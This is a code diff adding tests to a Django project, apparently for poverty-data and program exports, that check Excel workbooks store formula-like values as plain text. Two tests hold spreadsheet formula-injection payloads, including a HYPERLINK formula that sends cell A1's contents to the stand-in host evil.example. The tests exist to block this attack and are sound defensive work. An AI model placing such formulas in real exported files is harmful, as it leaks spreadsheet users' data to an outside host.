@@ -57,3 +57,30 @@ def test_xlsx_response_is_an_attachment_with_a_safe_file_name():
     assert response["Content-Disposition"].startswith("attachment; filename")
     assert "\n" not in response["Content-Disposition"]
     assert reread(response.content).max_row == 1
+
+
+def test_the_rejected_rows_workbook_writes_registry_values_as_text():
+    from poverty_data.services import errors_workbook_write
+
+    buffer = BytesIO()
+    errors_workbook_write(
+        [[7, "NAMA", '=HYPERLINK("http://evil.example","x")', "Desa tidak dikenal"]], buffer
+    )
+    cell = reread(buffer.getvalue())["C2"]
+    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://evil.example","x")', "s")
+
+
+def test_the_program_list_workbook_writes_a_formula_title_as_text(db, company):
+    from programs.excel.program import program_list_workbook
+    from tests.programs.factories import ProgramFactory
+
+    ProgramFactory(company=company, title='=HYPERLINK("http://evil.example/?x="&A1,"Klik")')
+    from programs.models import Program
+
+    content = program_list_workbook(
+        programs=Program.objects.prefetch_related("locations__desa__kecamatan").select_related("company"),
+        title="Program",
+    )
+    sheet = reread(content)
+    titles = [c for c in sheet["A"] if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert [(c.data_type, c.quotePrefix) for c in titles] == [("s", True)]
